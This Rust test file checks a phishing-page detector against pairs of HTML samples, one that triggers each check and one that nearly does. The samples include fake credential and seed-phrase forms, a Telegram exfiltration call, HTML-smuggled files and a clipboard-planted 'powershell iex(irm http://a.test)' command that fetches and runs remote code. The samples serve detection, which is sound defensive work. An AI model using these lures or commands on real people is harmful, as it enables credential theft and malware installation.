use super::*;
use crate::url::parse;

struct House {
    suffixes: Suffixes,
    names: Names,
    lore: Lore,
}

impl House {
    fn new() -> Self {
        let mut names = Names::builtin();
        names.protect("corp.example").unwrap();
        Self { suffixes: Suffixes::builtin(), names, lore: Lore::builtin() }
    }

    fn look(&self, url: &str, html: &str) -> Looked {
        self.look_with(url, html, 200, None)
    }

    fn look_with(&self, url: &str, html: &str, status: u16, icon: Option<&[u8]>) -> Looked {
        let url = parse(url).unwrap();
        let around = Around { suffixes: &self.suffixes, names: &self.names, lore: &self.lore, icon };
        let body = Body {
            url: &url,
            status,
            content_type: Some("text/html"),
            disposition: None,
            bytes: html.as_bytes(),
            is_cut: false,
        };
        examine(&body, &around)
    }
}

const HERE: &str = "https://shop.example/x";
const LOGIN: &str = "<form action=/in method=post><input type=email name=e><input type=password name=p></form>";

/// Of each check a page that has it and one that nearly has. Both stand on [`HERE`] unless they say where.
fn samples() -> Vec<(Check, String, String)> {
    let posts =
        |action: &str| format!("<form action='{action}' method=post><input name=e><input type=password name=p></form>");
    let contact =
        |action: &str| format!("<form action='{action}'><input name=name><textarea name=message></textarea></form>");
    let script = |script: &str| format!("{LOGIN}<script>{script}</script>");
    let titled = |title: &str| format!("<title>{title}</title>{LOGIN}");
    let seeds: String = (1..=12).map(|at| format!("<input name=w{at}>")).collect();
    let zip = "UEsDBBQAAAAIAA".to_owned() + &"A".repeat(120);
    let noise = "q83vEjRWeJq83vEjRWeJ".repeat(150);
    vec![
        (Check::FormCollector, posts("https://formspree.io/f/x"), contact("https://formspree.io/f/x")),
        (Check::FormAddress, posts("https://203.0.113.9/x"), posts("/x")),
        (Check::FormMail, posts("mailto:a@evil.test"), contact("mailto:a@shop.example")),
        (
            Check::FormMessenger,
            script("fetch('https://api.telegram.org/bot1:x/sendMessage')"),
            "<script>fetch('https://api.telegram.org/bot1:x/sendMessage')</script>".into(),
        ),
        (Check::FormElsewhere, posts("https://other.test/x"), posts("https://login.shop.example/x")),
        (Check::FormCleartext, posts("http://shop.example/x"), posts("https://shop.example/x")),
        (Check::FormLookalike, posts("https://paypa1.example/x"), posts("https://paypal.com/x")),
        (
            Check::AsksSeed,
            "<textarea name=seed_phrase></textarea>".into(),
            "<p>Never type your seed phrase.</p><input name=q>".into(),
        ),
        (Check::AsksSeed, format!("<p>Enter your recovery phrase</p><form>{seeds}</form>"), format!("<p>Your names</p><form>{seeds}</form>")),
        (
            Check::AsksMuch,
            "<form><input name=cardNumber><input name=cvv><input type=password name=p></form>".into(),
            format!("{LOGIN}<form><input name=cardNumber><input name=cvv></form>"),
        ),
        (Check::AsksPin, "<form><input name=cardNumber><input name=card_pin></form>".into(), "<form><input name=cardNumber></form>".into()),
        (
            Check::AsksMailbox,
            format!("<button>Gmail</button><button>Yahoo</button><button>AOL</button>{LOGIN}"),
            format!(
                "<a href='https://accounts.google.com/o'><button>Gmail</button></a><a href='https://login.live.com/o'>\
                 <button>Outlook</button></a><button>Yahoo</button>{LOGIN}"
            ),
        ),
        (
            Check::AsksMasked,
            "<form><input name=k style='-webkit-text-security: disc'></form>".into(),
            "<form><input name=k type=password style='-webkit-text-security: disc'></form>".into(),
        ),
        (
            Check::DeadLinks,
            format!("{LOGIN}<a href=#>a</a><a href=''>b</a><a href='javascript:void(0)'>c</a><a>d</a>"),
            format!("{LOGIN}<a href=/a>a</a><a href=/b>b</a><a href='#'>c</a><a>d</a>"),
        ),
        (Check::KnowsVictim, script("var email=location.hash.substr(1).split('@')"), script("show(location.hash)")),
        (Check::FendsOff, script("onkeydown=e=>{if(e.keyCode==123)return false}"), script("onkeydown=e=>{if(e.keyCode==13)go()}")),
        (Check::Threatens, format!("<p>Your account has been suspended</p>{LOGIN}"), format!("<p>Your account</p>{LOGIN}")),
        (Check::Lures, format!("<p>Sign in to view the document</p>{LOGIN}"), "<p>Sign in to view the document</p>".into()),
        (Check::MailAlarm, format!("<p>Your mailbox is full</p>{LOGIN}"), "<p>Your mailbox is full</p><form><input name=e></form>".into()),
        (Check::SaltedWords, format!("<h1>Раssword</h1>{LOGIN}"), format!("<h1>Пароль, Password</h1>{LOGIN}")),
        (Check::BrandClaimed, titled("PayPal: log in"), titled("Log in")),
        (Check::BrandClaimed, titled("楽天カード ログイン"), "<title>楽天カード</title><form><input type=email></form>".into()),
        (Check::BrandClaimed, titled("PayPal gift cards"), titled("PayPal gift cards - Shop")),
        (Check::BrandClaimed, titled("PayPal"), titled("PayPal") + &"<p>A word about it.</p>".repeat(500)),
        (Check::AsksSeed, "<label>Seed phrase <input name=a></label>".into(), "<p>The seed phrase</p><input placeholder='Search the guide'>".into()),
        (
            Check::SmuggledFile,
            format!("<script>a.download='x.iso';a.href=URL.createObjectURL(new Blob([d('{noise}')]))</script>"),
            format!("<script>a.download='x.bin2';a.href=URL.createObjectURL(new Blob([d('{noise}')]))</script>"),
        ),
        (
            Check::HiddenForm,
            "<meta http-equiv=refresh content='0;url=data:text/html,%3Cform%3E%3Cinput%20type=password%3E%3C/form%3E'>".into(),
            "<meta http-equiv=refresh content='0;url=/next?to=data:text/html,hello-hello-hello-hello'>".into(),
        ),
        (Check::BrandSoftware, titled("Sign in · Jira"), titled("Sign in · Wiki")),
        (Check::BrandSoftware, titled("Corp portal"), titled("Portal")),
        (
            Check::BrandLogo,
            titled("PayPal") + "<img src=a.png alt='PayPal logo'>",
            titled("PayPal") + "<img src=a.png alt='Sign in with PayPal'>",
        ),
        (Check::BrandRights, titled("PayPal") + "<p>© 2026 PayPal</p>", titled("PayPal") + "<p>© 2026 Shop</p>"),
        (
            Check::BrandAssets,
            titled("Netflix") + "<img src='https://assets.nflxext.com/x.png'>",
            titled("Gmail") + "<link rel=stylesheet href='https://fonts.googleapis.com/css'>",
        ),
        (
            Check::BrandCopy,
            format!("<!-- saved from url=(0030)https://login.bank.test/in -->{LOGIN}"),
            format!("<!-- saved from url=(0030)https://www.shop.example/in -->{LOGIN}"),
        ),
        (
            Check::BrandIcon,
            format!("<link rel=icon href='https://www.paypal.com/favicon.ico'>{LOGIN}"),
            format!("<link rel=icon href=/favicon.ico>{LOGIN}"),
        ),
        (
            Check::FakeWindow,
            format!("<div><span>https://accounts.google.com/signin</span>{LOGIN}</div>"),
            format!("<p>Only sign in at <span>https://shop.example/signin</span></p>{LOGIN}"),
        ),
        (
            Check::CoversPage,
            format!("<iframe src='https://corp.test/' style='position:fixed;width:100%;height:100%'></iframe>{LOGIN}"),
            format!("<iframe src='https://maps.test/' style='width:300px;height:200px'></iframe>{LOGIN}"),
        ),
        (
            Check::FramedWhole,
            "<frameset rows='100%'><frame src='https://other.test/'></frameset>".into(),
            "<frameset rows='100%'><frame src='https://www.shop.example/'></frameset>".into(),
        ),
        (
            Check::WritesItself,
            "<script>document.write(atob('PGh0bWw+PGJvZHk+PGgxPkhlbGxvLCB0aGlzIGlzIGEgcGFnZTwvaDE+PC9ib2R5PjwvaHRtbD4='))</script>".into(),
            "<script>document.write('<p>Hello, this is a page that is written in the open, as many are.</p>')</script>".into(),
        ),
        (
            Check::HiddenForm,
            "<script>document.write(unescape('%3Cform%3E%3Cinput%20type%3Dpassword%20name%3Dp%3E%3C%2Fform%3E'))</script>".into(),
            script("document.write(unescape('%3Cform%3E%3Cinput%20type%3Dpassword%20name%3Dp%3E%3C%2Fform%3E'))"),
        ),
        (Check::PackedScript, script("eval(function(p,a,c,k,e,d){})"), script("function f(p,a,c,k,e,d){}")),
        (Check::PackedScript, script(&"var _0x12=_0x34(_0x56);".repeat(20)), script("var _0x12=1")),
        (
            Check::DataPage,
            "<meta http-equiv=refresh content='0;url=data:text/html,<p>x</p>'>".into(),
            "<img src='data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJ'>".into(),
        ),
        (
            Check::SmuggledFile,
            format!("<script>a.download='x';a.href=URL.createObjectURL(new Blob([atob('{zip}')]))</script>"),
            "<script>a.download='x.csv';a.href=URL.createObjectURL(new Blob([rows.join()]))</script>".into(),
        ),
        (
            Check::SmuggledBytes,
            format!("<script>a.download='x';a.href=URL.createObjectURL(new Blob([d('{noise}')]));a.click()</script>"),
            format!("<script>var font='{noise}'</script>"),
        ),
        (
            Check::ClipboardCommand,
            "<script>navigator.clipboard.writeText('powershell -w hidden -c iex(irm http://a.test)')</script>".into(),
            "<script>navigator.clipboard.writeText('curl https://sh.tool.test | sh')</script>".into(),
        ),
        (
            Check::PasteLure,
            "<p>Prove that you are human: press Windows + R, then Ctrl + V</p>".into(),
            "<p>Press Windows + R and type services.msc</p>".into(),
        ),
        (
            Check::PastePretext,
            "<p>Prove that you are human: press Windows + R, then Ctrl + V</p>".into(),
            "<p>Prove that you are human: tick the box</p>".into(),
        ),
        (
            Check::Alarm,
            "<p>Your computer has been locked. Virus detected. Do not restart. Call +1 888 555 0100</p>".into(),
            "<p>Virus detected? Our scanner helps. Call +1 888 555 0100</p>".into(),
        ),
        (
            Check::AlarmCall,
            "<p>Your computer has been locked. Virus detected. Do not restart. Call support +1 888 555 0100</p>".into(),
            "<audio autoplay></audio><p>Your computer has been locked. Virus detected. Do not restart.</p>".into(),
        ),
        (
            Check::PageTrap,
            "<audio autoplay></audio><p>Your computer has been locked. Virus detected. Do not restart.</p>".into(),
            "<audio autoplay></audio><p>Our new song</p>".into(),
        ),
    ]
}

#[test]
fn each_check_sees_its_page_and_not_the_one_beside_it() {
    let house = House::new();
    let told = |html: &str| house.look(HERE, html);
    for (check, has, nearly) in samples() {
        let (with, without) = (told(&has), told(&nearly));
        assert!(with.marks.iter().any(|mark| mark.check == check), "{check} is not seen in {has}: {:?}", with.marks);
        assert!(
            without.marks.iter().all(|mark| mark.check != check),
            "{check} is seen in {nearly}: {:?}",
            without.marks
        );
    }
    let seen: Vec<Check> = samples().into_iter().map(|(check, ..)| check).collect();
    let by_host = [Check::HostLookalike, Check::HostScripts, Check::HostAddress, Check::HostShared];
    let rest = Check::ALL
        .iter()
        .filter(|check| !check.as_str().starts_with("file_") && !check.as_str().starts_with("archive_"));
    for check in rest {
        assert!(seen.contains(check) || by_host.contains(check), "{check} has no sample");
    }
}

#[test]
fn a_login_counts_by_its_host() {
    let house = House::new();
    for (url, check) in [
        ("https://paypa1.example/", Check::HostLookalike),
        ("https://раypal.test/", Check::HostScripts),
        ("https://203.0.113.9/", Check::HostAddress),
        ("https://a.pages.dev/", Check::HostShared),
        ("https://sites.google.com/view/a", Check::HostShared),
    ] {
        let has = |html: &str| house.look(url, html).marks.iter().any(|mark| mark.check == check);
        assert!(has(LOGIN) && !has("<p>A page</p>"), "{url}");
    }
}

#[test]
fn an_icon_is_known_bit_by_bit() {
    let mut house = House::new();
    let icon = b"\x89PNG an icon of the test's own";
    let hash: String = Sha256::digest(icon).iter().map(|byte| format!("{byte:02x}")).collect();
    let [weights, brands, words] = [
        include_str!("../../data/page_weights.toml"),
        include_str!("../../data/page_brands.txt"),
        include_str!("../../data/page_words.toml"),
    ];
    house.lore = Lore::parse(weights, brands, &format!("{hash} bank.test"), words).unwrap();
    let has = |url: &str, icon: Option<&[u8]>| {
        house.look_with(url, LOGIN, 200, icon).marks.iter().any(|mark| mark.check == Check::BrandIcon)
    };
    assert!(has(HERE, Some(icon)) && !has(HERE, Some(b"another")) && !has("https://www.bank.test/", Some(icon)));
    let inline = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, icon);
    let page = format!("<link rel='shortcut icon' href='data:image/png;base64,{inline}'>{LOGIN}");
    assert!(house.look(HERE, &page).marks.iter().any(|mark| mark.check == Check::BrandIcon));
    let page = "<link rel=icon href=/i.ico>";
    assert_eq!(house.look(HERE, page).icon.unwrap().as_str(), "https://shop.example/i.ico");
}

#[test]
fn the_same_page_at_home_is_clean() {
    let house = House::new();
    let page = format!(
        "<title>PayPal: log in</title><img alt='PayPal logo' src='https://www.paypalobjects.com/l.svg'>{LOGIN}<p>© PayPal</p>"
    );
    let told = house.look(HERE, &page);
    assert_eq!((told.tier, told.threat), (Tier::Malicious, Threat::Phishing), "{told:?}");
    assert!(told.in_words().contains("PayPal") && told.in_words().contains(&format!("together {}", told.score)));
    for own in ["https://www.paypal.com/signin", "https://paypal.me/x", "https://www.paypal.test/"] {
        assert_eq!(house.look(own, &page).marks, [], "{own}");
    }
    let corp = format!("<title>Corp sign-in</title>{LOGIN}");
    assert_eq!(house.look("https://sso.corp.example/", &corp).marks, []);
}

#[test]
fn what_nobody_saw_is_unknown() {
    let house = House::new();
    let gate =
        "<title>Just a moment...</title><script src=https://challenges.cloudflare.com/turnstile/v0/api.js></script>";
    let told = house.look(HERE, gate);
    assert_eq!((told.tier, told.sight, told.threat), (Tier::Unknown, Sight::Challenge, Threat::None));
    // The tool in an honest form hides nothing.
    let form = format!("<h1>Sign in</h1>{LOGIN}<div class=cf-turnstile></div>");
    assert_eq!(house.look(HERE, &form).sight, Sight::Whole);
    let leads = "<p>Wait</p><script>location.replace(atob(x))</script>";
    assert_eq!((house.look(HERE, leads).tier, house.look(HERE, leads).sight), (Tier::Unknown, Sight::Leads));
    let plain = "<p>Wait</p><script>location.replace('/next')</script>";
    assert_eq!(house.look(HERE, plain).tier, Tier::Clean);
    let refused = house.look_with(HERE, "<p>Please verify you are a human</p>", 403, None);
    assert_eq!(refused.sight, Sight::Challenge);
    assert_eq!(house.look(HERE, "<div id=root></div><script src=/app.js></script>").sight, Sight::Scripted);
}

#[test]
fn documents_inside_documents_are_read() {
    let house = House::new();
    let inner = LOGIN.replace('&', "&amp;").replace('"', "&quot;");
    let page = format!("<title>PayPal</title><iframe srcdoc=\"{inner}\"></iframe>");
    assert!(house.look(HERE, &page).marks.iter().any(|mark| mark.check == Check::BrandClaimed));
    let data = base64::Engine::encode(&base64::engine::general_purpose::STANDARD, LOGIN);
    let told = house.look(HERE, &format!("<title>PayPal</title><iframe src='data:text/html;base64,{data}'></iframe>"));
    assert!(
        [Check::BrandClaimed, Check::DataPage, Check::HiddenForm]
            .iter()
            .all(|check| told.marks.iter().any(|mark| mark.check == *check))
    );
}

#[test]
fn a_page_built_to_be_slow_is_not() {
    let house = House::new();
    let many: String = (0..100_000).map(|at| format!("a{at} ")).collect();
    for page in [
        format!("<p {many}>"),
        "<form>".repeat(100_000),
        "<input type=password>".repeat(50_000),
        "<iframe srcdoc='".repeat(50_000),
        "<div><svg><title>".repeat(50_000),
        format!("<script>{}</script>", "location=".repeat(50_000)),
        format!("<script>{}</script>", "'x'+".repeat(100_000)),
        format!("<script>{}</script>", "%3C'".repeat(100_000)),
        "https://accounts.google.com/login<br>".repeat(30_000),
        format!("<title>{}", "PayPal ".repeat(100_000)),
    ] {
        assert!(house.look(HERE, &page).marks.len() <= MAX_MARKS);
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(96))]
    #[test]
    fn any_page_is_read(html in "(<form|<input type=password|<script>|</script>|<title>|<iframe srcdoc='|data:text/html,|atob\\('|'|\"|>|<|=| |PayPal|%3C|\\\\x3c|eval\\(|location='/x'|é|\u{200b}|[a-z]{1,4}){0,60}") {
        let (url, suffixes, names, lore) = HOUSE.with(|house| (parse(HERE).unwrap(), house.suffixes.clone(), house.names.clone(), house.lore.clone()));
        let body = Body { url: &url, status: 200, content_type: None, disposition: None, bytes: html.as_bytes(), is_cut: false };
        let looked = examine(&body, &Around { suffixes: &suffixes, names: &names, lore: &lore, icon: None });
        for mark in &looked.marks {
            proptest::prop_assert!(!mark.evidence.contains(char::is_control) && mark.evidence.len() < 1024);
        }
        onward(&body);
    }
}

thread_local! {
    static HOUSE: std::rc::Rc<Shared> = std::rc::Rc::new(Shared::new());
}

/// What costs time to build, once for all cases.
struct Shared {
    suffixes: std::rc::Rc<Suffixes>,
    names: std::rc::Rc<Names>,
    lore: std::rc::Rc<Lore>,
}

impl Shared {
    fn new() -> Self {
        let House { suffixes, names, lore } = House::new();
        Self { suffixes: suffixes.into(), names: names.into(), lore: lore.into() }
    }
}
